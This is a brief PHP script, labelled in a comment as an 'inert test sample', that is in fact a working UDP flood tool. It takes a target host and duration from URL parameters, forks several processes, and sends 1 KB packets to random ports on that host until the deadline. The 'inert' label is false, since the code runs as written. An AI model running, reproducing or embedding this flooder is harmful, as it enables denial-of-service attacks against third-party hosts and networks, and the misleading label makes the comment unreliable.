<?php
// inert test sample: sends UDP packets to a chosen host until the deadline, from several processes
$host = isset($_GET['h']) ? $_GET['h'] : '127.0.0.1';
$secs = isset($_GET['t']) ? (int) $_GET['t'] : 10;
$packet = str_repeat('Z', 1024);
for ($n = 0; $n < 4; $n++) {
    if (pcntl_fork() === 0) {
        break;
    }
}
$stop = time() + $secs;
while (time() < $stop) {
    $s = @fsockopen('udp://' . $host, rand(1, 65000), $e, $es, 1);
    if ($s) {
        fwrite($s, $packet);
        fclose($s);
    }
}
